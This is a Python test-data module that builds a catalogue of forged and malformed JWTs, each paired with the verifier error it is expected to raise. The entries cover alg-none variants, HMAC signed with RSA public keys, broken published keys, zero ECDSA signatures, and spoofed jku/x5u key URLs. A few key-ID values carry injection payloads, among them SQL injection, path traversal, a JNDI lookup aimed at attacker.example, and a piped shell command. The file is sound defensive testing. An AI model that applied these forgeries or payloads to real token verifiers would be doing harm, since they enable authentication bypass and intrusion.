"""Tokens that nobody may pass with: each is one known way of forging or malforming, and the error it must meet."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Callable, Iterator
from functools import partial

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tenantgate.errors.tokens import (
    AlgorithmNotAllowed,
    InvalidSignature,
    MalformedToken,
    MissingClaim,
    UnknownKey,
    UnsupportedHeader,
    WrongTokenType,
)
from tests.support.forged_claims import forged_claims
from tests.support.forging import Build, Forged, header_text, payload_text, signed_raw, unsigned, with_header
from tests.support.tokens import (
    NOW,
    b64,
    good_claims,
    private_key,
    public_jwk,
    public_jwks,
    raw_signature,
    sign,
    sign_raw,
)

# What the issuer of these tests publishes: good keys, and some that must never verify anything.
PUBLISHED_JWKS: dict[str, object] = {
    "keys": [
        *public_jwks()["keys"],  # type: ignore[misc]
        public_jwk("rsa1024-weak"),
        public_jwk("rsa-enc", use="enc"),
        public_jwk("rsa-sign-only", key_ops=["sign"], use=None),
        public_jwk("rsa-only-ps", alg="PS256"),
        public_jwk("rsa-says-hmac", alg="HS256"),
        public_jwk("rsa-says-none", alg="none"),
        public_jwk("rsa-with-d", d="AQAB"),
        public_jwk("p256-off-curve", y=b64(bytes(32))),
        public_jwk("p256-says-p384", crv="P-384"),
        public_jwk("p256-short", x=b64(bytes(31))),
        public_jwk("ed25519-zero", x=b64(bytes(32))),
        public_jwk("ed25519-one", x=b64(b"\x01" + bytes(31))),
        {"kty": "oct", "kid": "oct-1", "k": b64(b"0" * 32), "alg": "HS256"},
        {"kty": "RSA", "kid": "rsa-no-modulus", "e": "AQAB"},
        {"kty": "RSA", "kid": "rsa-exponent-one", "n": public_jwk("rsa-1")["n"], "e": "AQ"},
    ]
}


def _hmac(secret: Callable[[], bytes], alg: str = "HS256", kid: str = "rsa-1") -> str:
    signing_input = f"{b64(header_text(alg=alg, kid=kid))}.{b64(payload_text())}"
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    return f"{signing_input}.{b64(hmac.digest(secret(), signing_input.encode(), digest))}"


def _edited(edit: Callable[[str, str, str], str]) -> Build:
    def build() -> str:
        header, payload, signature = sign(good_claims()).split(".")
        return edit(header, payload, signature)

    return build


def _es256(r: int, s: int) -> Build:
    def build() -> str:
        return unsigned(header_text(alg="ES256", kid="p256-1"), b64(r.to_bytes(32) + s.to_bytes(32)))

    return build


def _der_es256() -> str:
    signing_input = f"{b64(header_text(alg='ES256', kid='p256-1'))}.{b64(payload_text())}"
    raw = raw_signature(signing_input, "ES256", "p256-1")
    der = encode_dss_signature(int.from_bytes(raw[:32]), int.from_bytes(raw[32:]))
    return f"{signing_input}.{b64(der)}"


def _pem(kid: str, form: PublicFormat = PublicFormat.SubjectPublicKeyInfo, encoding: Encoding = Encoding.PEM) -> bytes:
    return private_key(kid).public_key().public_bytes(encoding, form)


def _loosened(text: str) -> str:
    """Another spelling of the same bytes: one of the unused bits of the last character set."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    assert len(text) % 4, "this segment has no unused bits"
    return text[:-1] + alphabet[alphabet.index(text[-1]) | 1]


def _algorithms() -> Iterator[Forged]:
    for alg in ("none", "None", "NONE", "nOnE", "none ", "", "null"):
        error = MalformedToken if not alg else AlgorithmNotAllowed
        yield Forged(f"alg {alg!r} with a signature", partial(unsigned, header_text(alg=alg), "QUJD"), error)
        yield Forged(f"alg {alg!r} without", partial(unsigned, header_text(alg=alg)), MalformedToken)
    for value in (None, 0, True, ["RS256"], {"RS256": 1}, 256.0):
        header = header_text(alg=value) if value is not None else header_text(alg=None)
        yield Forged(f"alg is {value!r}", signed_raw(header), MalformedToken)
    yield Forged("alg is null", signed_raw('{"alg":null,"kid":"rsa-1"}'), MalformedToken)
    for alg in ("HS256", "HS384", "HS512"):
        for form, secret in {
            "PEM": lambda: _pem("rsa-1"),
            "PEM without end of line": lambda: _pem("rsa-1").strip(),
            "DER": lambda: _pem("rsa-1", encoding=Encoding.DER),
            "PKCS1": lambda: _pem("rsa-1", PublicFormat.PKCS1),
            "modulus": lambda: str(public_jwk("rsa-1")["n"]).encode(),
            "JWK": lambda: json.dumps(public_jwk("rsa-1")).encode(),
            "empty": lambda: b"",
        }.items():
            yield Forged(f"{alg} with the public key as {form}", partial(_hmac, secret, alg), AlgorithmNotAllowed)
    yield Forged(
        "HS256 with the published oct key", partial(_hmac, lambda: b"0" * 32, kid="oct-1"), AlgorithmNotAllowed
    )
    for alg in ("rs256", "RS256 ", "RS1", "ES256K", "EDDSA", "Ed448", "RSA1_5", "dir", "A128KW", "PBES2-HS256+A128KW"):
        yield Forged(f"alg {alg!r}", partial(unsigned, header_text(alg=alg), "QUJD"), AlgorithmNotAllowed)


def _keys() -> Iterator[Forged]:
    for alg, kid in (
        ("RS256", "p256-1"),
        ("PS256", "ed25519-1"),
        ("ES256", "rsa-1"),
        ("ES256", "p384-1"),
        ("ES384", "p256-1"),
        ("ES512", "p256-1"),
        ("EdDSA", "rsa-1"),
        ("EdDSA", "p256-1"),
        ("RS256", "ed25519-1"),
    ):
        yield Forged(f"{alg} by the key {kid}", partial(unsigned, header_text(alg=alg, kid=kid), "QUJD"), UnknownKey)
    for kid in (
        "rsa1024-weak",
        "rsa-enc",
        "rsa-sign-only",
        "rsa-only-ps",
        "rsa-says-hmac",
        "rsa-says-none",
        "rsa-with-d",
    ):
        yield Forged(f"signed by {kid}", lambda k=kid: sign(good_claims(), kid=k), UnknownKey)  # type: ignore[misc]
    for alg, kid in (
        ("ES256", "p256-off-curve"),
        ("ES256", "p256-says-p384"),
        ("ES384", "p256-says-p384"),
        ("ES256", "p256-short"),
        ("EdDSA", "ed25519-zero"),
        ("EdDSA", "ed25519-one"),
        ("RS256", "rsa-no-modulus"),
        ("RS256", "rsa-exponent-one"),
    ):
        zeros = partial(unsigned, header_text(alg=alg, kid=kid), b64(bytes(64)))
        yield Forged(f"{alg} by the broken key {kid}", zeros, UnknownKey)
    for alg, kid in (("RS256", "rsa"), ("ES256", "p256"), ("EdDSA", "ed25519")):
        build = partial(_swapped_kid, f"{kid}-foreign", f"{kid}-1", alg)
        yield Forged(f"{alg} signed by another key", build, InvalidSignature)
    yield Forged("PS256 signature under RS256", lambda: _resigned("RS256", "PS256"), InvalidSignature)
    yield Forged("RS256 signature under PS256", lambda: _resigned("PS256", "RS256"), InvalidSignature)
    yield Forged("RS256 signature under RS512", lambda: _resigned("RS512", "RS256"), InvalidSignature)
    for kid in (
        "unknown",
        "RSA-1",
        "rsa-1 ",
        "rsa-1/",
        "../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "https://attacker.example/jwks.json",
        "rsa-1' OR '1'='1",
        "x' UNION SELECT 'key",
        "${jndi:ldap://attacker.example/a}",
        "rsa-1|id",
    ):
        yield Forged(f"kid {kid!r}", partial(_swapped_kid, "rsa-1", kid), UnknownKey)
    for value in ("", "k" * 257, "rsa-1\u0000", "rsa-1\n", 1, True, ["rsa-1"], {"kid": "rsa-1"}):
        yield Forged(
            f"kid is {str(value)[:12]!r} ({type(value).__name__})", signed_raw(header_text(kid=value)), MalformedToken
        )
    yield Forged("kid is null where several keys fit", signed_raw('{"alg":"RS256","kid":null}'), UnknownKey)
    yield Forged("no kid where several keys fit", lambda: unsigned(header_text(kid=None), "QUJD"), UnknownKey)


def _swapped_kid(signer: str, kid: str, alg: str = "RS256") -> str:
    signing_input = f"{b64(header_text(alg=alg, kid=kid))}.{b64(payload_text())}"
    return f"{signing_input}.{b64(raw_signature(signing_input, alg, signer))}"


def _resigned(said: str, really: str) -> str:
    signing_input = f"{b64(header_text(alg=said))}.{b64(payload_text())}"
    return f"{signing_input}.{b64(raw_signature(signing_input, really, 'rsa-1'))}"


def _hinting(kid: str, name: str, value: object) -> str:
    signing_input = f"{b64(header_text(kid=kid, **{name: value}))}.{b64(payload_text())}"
    return f"{signing_input}.{b64(raw_signature(signing_input, 'RS256', 'rsa-foreign'))}"


def _headers() -> Iterator[Forged]:
    for name, value in (
        ("crit", ["exp"]),
        ("crit", []),
        ("crit", None),
        ("crit", ["b64"]),
        ("b64", False),
        ("b64", True),
        ("jwk", public_jwk("rsa-foreign")),
        ("jwk", {}),
        ("zip", "DEF"),
        ("enc", "A128GCM"),
        ("epk", {}),
        ("p2c", 10_000_000),
        ("p2s", "AAAA"),
        ("cty", "JWT"),
        ("cty", "jwt"),
        ("cty", "application/JWT"),
        ("cty", "at+jwt"),
        ("cty", 1),
        ("jwk", None),
        ("enc", None),
    ):
        header = json.dumps({"alg": "RS256", "kid": "rsa-1", name: value})
        yield Forged(f"header has {name}: {str(value)[:24]}", signed_raw(header), UnsupportedHeader)
    # What only hints where a key is must never lead to one: another's signature stays another's.
    for name, value in (
        ("jku", "https://attacker.example/jwks.json"),
        ("x5u", "https://attacker.example/cert.pem"),
        ("x5c", [base64.b64encode(_pem("rsa-foreign", encoding=Encoding.DER)).decode()]),
        ("x5t", "dGh1bWJwcmludA"),
        ("x5t#S256", "dGh1bWJwcmludA"),
    ):
        for kid, error in (("rsa-1", InvalidSignature), ("rsa-foreign", UnknownKey)):
            build = partial(_hinting, kid, name, value)
            yield Forged(f"signed by the key that {name} hints at, under {kid}", build, error)
    foreign = json.dumps({"alg": "RS256", "kid": "rsa-foreign", "jwk": public_jwk("rsa-foreign")})
    yield Forged(
        "signed by the jwk it brings", lambda: sign_raw(foreign, payload_text(), kid="rsa-foreign"), UnsupportedHeader
    )
    for name, text in {
        "a duplicate alg": '{"alg":"none","alg":"RS256","kid":"rsa-1"}',
        "a duplicate kid": '{"alg":"RS256","kid":"x","kid":"rsa-1"}',
        "a duplicate by escape": '{"alg":"RS256","kid":"x","k\\u0069d":"rsa-1"}',
        "a comment": '{"alg":"RS256",/**/"kid":"rsa-1"}',
        "a trailing comma": '{"alg":"RS256","kid":"rsa-1",}',
        "single quotes": "{'alg':'RS256','kid':'rsa-1'}",
        "two objects": '{"alg":"RS256","kid":"rsa-1"}{}',
        "NaN": '{"alg":"RS256","kid":"rsa-1","x":NaN}',
    }.items():
        yield Forged(f"header with {name}", signed_raw(text), MalformedToken)
    for name, text in {
        "a list": "[]",
        "a text": '"RS256"',
        "a number": "1",
        "null": "null",
        "true": "true",
    }.items():
        yield Forged(f"header is {name}", signed_raw(text), MalformedToken)
    yield Forged("header is 5 KB", signed_raw(header_text(x="a" * 5000)), MalformedToken)
    yield Forged("header in UTF-16", signed_raw(header_text().encode("utf-16")), MalformedToken)
    yield Forged("header with a byte order mark", signed_raw(b"\xef\xbb\xbf" + header_text().encode()), MalformedToken)
    for typ in (
        "id+jwt",
        "logout+jwt",
        "secevent+jwt",
        "dpop+jwt",
        "JOSE",
        "at+jwt;x",
        "application/application/at+jwt",
    ):
        yield Forged(f"typ {typ}", with_header(typ=typ), WrongTokenType)
    for value in (1, True, ["at+jwt"]):
        yield Forged(f"typ is {value!r}", signed_raw(header_text(typ=value)), MalformedToken)


def _forms() -> Iterator[Forged]:
    for name, text in {
        "empty": "",
        "one segment": "abc",
        "only dots": "..",
        "a thousand dots": "." * 1000,
        "two segments": "YWJj.YWJj",
        "blanks": " . . ",
        "not ASCII": "é.é.é",
        "four segments": "YQ.YQ.YQ.YQ",
        "a lone surrogate": "\ud800.YQ.YQ",
        "64 KB of one letter": "A" * 65536,
        "64 KB in three segments": f"{'A' * 20000}.{'A' * 20000}.{'A' * 20000}",
        "64 KB of dots": "." * 65536,
    }.items():
        yield Forged(f"token is {name}", partial(str, text), MalformedToken)
    encrypted = json.dumps({"alg": "RSA-OAEP", "enc": "A256GCM", "zip": "DEF"})
    yield Forged("JWE", lambda: f"{b64(encrypted)}.YQ.YQ.YQ.YQ", MalformedToken)
    yield Forged(
        "JWE with PBES2",
        lambda: f"{b64(json.dumps({'alg': 'PBES2-HS256+A128KW', 'p2c': 2**31}))}.Y.Q.Y.Q",
        MalformedToken,
    )
    yield Forged("JWS in JSON", lambda: json.dumps({"payload": b64(payload_text()), "signatures": []}), MalformedToken)
    edits: dict[str, Callable[[str, str, str], str]] = {
        "padded header": lambda h, p, s: f"{h}{'=' * (-len(h) % 4 or 4)}.{p}.{s}",
        "padded signature": lambda h, p, s: f"{h}.{p}.{s}==",
        "line break in payload": lambda h, p, s: f"{h}.{p[:8]}\n{p[8:]}.{s}",
        "blank before": lambda h, p, s: f" {h}.{p}.{s}",
        "blank after": lambda h, p, s: f"{h}.{p}.{s} ",
        "line break after": lambda h, p, s: f"{h}.{p}.{s}\n",
        "NUL after": lambda h, p, s: f"{h}.{p}.{s}\0",
        "dot after": lambda h, p, s: f"{h}.{p}.{s}.",
        "dot before": lambda h, p, s: f".{h}.{p}.{s}",
        "signature loosely spelled": lambda h, p, s: f"{h}.{p}.{_loosened(s)}",
        "signature in plain base64": lambda h, p, s: f"{h}.{p}.{s[:-4]}+/{s[-2:]}",
        "signature one character short": lambda h, p, s: f"{h}.{p}.{s[:-1]}",
        "no signature": lambda h, p, s: f"{h}.{p}.",
        "no payload": lambda h, p, s: f"{h}..{s}",
        "no header": lambda h, p, s: f".{p}.{s}",
        "payload cut off": lambda h, p, s: f"{h}.{p[:-4]}.{s}",
        "payload and signature swapped": lambda h, p, s: f"{h}.{s}.{p}",
    }
    for name, edit in edits.items():
        yield Forged(name, _edited(edit), MalformedToken)
    yield Forged("signature a byte longer", _edited(lambda h, p, s: f"{h}.{p}.{s[:-1]}{s[-1]}A"), InvalidSignature)
    yield Forged("signature half as long", _edited(lambda h, p, s: f"{h}.{p}.{s[:128]}"), InvalidSignature)
    yield Forged("signature twice", _edited(lambda h, p, s: f"{h}.{p}.{s[:340]}{s[:340]}"), InvalidSignature)
    yield Forged("signature of zeros", lambda: unsigned(header_text(), b64(bytes(256))), InvalidSignature)
    yield Forged("signature of ones", lambda: unsigned(header_text(), b64(b"\xff" * 256)), InvalidSignature)
    yield Forged(
        "signature is the number one", lambda: unsigned(header_text(), b64(bytes(255) + b"\x01")), InvalidSignature
    )
    yield Forged(
        "payload of another token",
        _edited(lambda h, p, s: f"{h}.{b64(payload_text(sub='admin'))}.{s}"),
        InvalidSignature,
    )
    order = ec.SECP256R1().group_order
    for name, r, s in (("zeros", 0, 0), ("r zero", 0, 1), ("s zero", 1, 0), ("r the order", order, 1), ("ones", 1, 1)):
        yield Forged(f"ES256 signature: {name}", _es256(r, s), InvalidSignature)
    yield Forged("ES256 signature in DER", _der_es256, InvalidSignature)
    yield Forged(
        "EdDSA signature of zeros",
        lambda: unsigned(header_text(alg="EdDSA", kid="ed25519-1"), b64(bytes(64))),
        InvalidSignature,
    )
    good = payload_text()
    for name, payload in {
        "a duplicate sub": '{"sub":"admin",' + good[1:],
        "a duplicate exp": good[:-1] + f', "exp": {NOW + 600}}}',
        "a duplicate in depth": good[:-1] + ', "x": {"y": [{"a": 1, "a": 2}]}}',
        "a duplicate by escape": '{"s\\u0075b":"admin",' + good[1:],
        "NaN": good[:-1] + ', "x": NaN}',
        "Infinity": good[:-1] + ', "x": -Infinity}',
        "text after it": good + "x",
        "a second object": good + "{}",
        "a control character": good[:-1] + ', "x": "\t"}',
        "a number of 5,000 digits": good[:-1] + f', "x": {"9" * 5000}}}',
        "nothing": " ",
        "a list": f"[{good}]",
        "a text": json.dumps(good),
        "null": "null",
        "6,000 open brackets": "[" * 6000,
    }.items():
        yield Forged(f"payload with {name}", signed_raw(payload=payload), MalformedToken)
    yield Forged(
        "payload in Latin-1",
        signed_raw(payload=payload_text(sub="user").replace("user", "\u00e9").encode("latin-1")),
        MalformedToken,
    )
    deep = '{"a":' * 1800 + "1" + "}" * 1800
    yield Forged("payload of deep objects", signed_raw(payload=deep), MissingClaim)
    yield Forged("payload in UTF-16", signed_raw(payload=good.encode("utf-16")), MalformedToken)
    yield Forged(
        "a token nested in another", lambda: sign_raw(header_text(cty="JWT"), sign(good_claims())), UnsupportedHeader
    )
    yield Forged(
        "a token nested in another, cty or not", lambda: sign_raw(header_text(), sign(good_claims())), MalformedToken
    )


FORGED = [*_algorithms(), *_keys(), *_headers(), *_forms(), *forged_claims()]
